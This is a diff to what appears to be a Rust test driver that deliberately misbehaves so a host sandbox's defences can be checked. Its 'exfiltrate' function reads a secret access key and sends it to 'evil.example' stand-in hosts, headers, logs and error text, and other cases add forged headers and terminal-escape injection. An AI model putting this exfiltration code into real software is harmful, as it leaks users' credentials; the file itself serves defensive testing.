@@ -29,6 +29,7 @@ const DESCRIPTOR: &str = r#"{
       "endpoints": [{ "url": "{config.endpoint}", "auth": "oauth" }],
       "authProfiles": [{ "name": "oauth", "kind": "oauth2-client", "params": { "tokenUrl": "{config.endpoint}/token" } }],
       "credentials": [{ "key": "clientId", "required": true }, { "key": "clientSecret", "required": true }] },
+    { "type": "paced", "endpoints": [{ "url": "{config.endpoint}", "ratePerMinute": 1, "burst": 2, "concurrent": 4 }] },
     { "type": "open", "endpoints": [{ "url": "{config.endpoint}" }, { "url": "http://localhost:9/" }, { "url": "https://localhost:9/" },
       { "url": "https://name.invalid/" }] }
   ]
@@ -88,6 +89,26 @@ fn behave() -> Result<String, Error> {
         "big-request" => http::post(&config("url"), &[], &vec![b'x'; 2 << 20])
             .map(|_| String::new())
             .map_err(|e| failed("Http", e)),
+        "headers" => Ok(http::headers(config("count").parse().unwrap_or(0), config("length").parse().unwrap_or(0))),
+        "forge-headers" => Ok(["host", "connection", "transfer-encoding", "upgrade", "proxy-authorization", ":authority"]
+            .map(|name| format!("{name}={}", http::may_set(name)))
+            .join(" ")),
+        "abandon" => {
+            for _ in 0..10 {
+                http::abandon(&config("url")).map_err(|error| failed("Http", error))?;
+            }
+            Ok("abandoned".to_owned())
+        }
+        "throttled" => {
+            post()?;
+            let wait = config("wait").parse().ok();
+            Err(Error { code: ErrorCode::Throttled, retry_after_ms: wait, ..failed("SlowDown", "slow down".to_owned()) })
+        }
+        "exfiltrate" => Err(exfiltrate()),
+        "inject-long" => Err(Error {
+            details: vec![("k\n".to_owned(), "v".to_owned())],
+            ..failed(&"Reason\n".repeat(10_000), "\u{202e}message\x1b[2J ".repeat(100_000))
+        }),
         "long-handle" => Ok("x".repeat(2000)),
         "huge-answer" => Ok("x".repeat(40 << 20)),
         "inject" => {
@@ -122,6 +143,28 @@ fn behave() -> Result<String, Error> {
             ))
         }
         _ => Ok("quiet".to_owned()),
+    }
+}
+
+/// Puts a secret everywhere a driver can put anything.
+fn exfiltrate() -> Error {
+    let secret = credentials::reveal("secretAccessKey").unwrap_or_default();
+    let (base64, escaped) = (config("base64"), config("escaped"));
+    let mut answers = Vec::new();
+    for url in [
+        format!("https://{}.evil.example/", &secret[..8]),
+        format!("https://evil.example/{escaped}?k={escaped}"),
+        format!("{}/{escaped}", config("elsewhere")),
+    ] {
+        let answer = http::post(&url, &[("x-leak", &secret)], secret.as_bytes());
+        answers.push(answer.map_or_else(|error| error, |(status, _)| status.to_string()));
+    }
+    println!("stdout {secret} {escaped} {base64}");
+    eprintln!("stderr {secret} {escaped} {base64}");
+    log::log(log::Level::Error, &secret, &[(secret.clone(), base64.clone()), ("escaped".to_owned(), escaped.clone())]);
+    Error {
+        details: vec![("leak".to_owned(), format!("{secret} {base64} {escaped}"))],
+        ..failed(&format!("R{secret}"), format!("{secret} {base64} {escaped} {}", answers.join(",")))
     }
 }
 
@@ -204,6 +247,10 @@ impl disk::Guest for Behaviours {
     }
 
     fn find(query: Query, page: Option<String>) -> Result<disk::DiskPage, Error> {
+        let mut query = query;
+        if config("behaviour") == "leak-in-tags" {
+            query.tags.push(("leak".to_owned(), credentials::reveal("secretAccessKey").unwrap_or_default()));
+        }
         behave().map(|text| disk::DiskPage {
             items: query
                 .handles
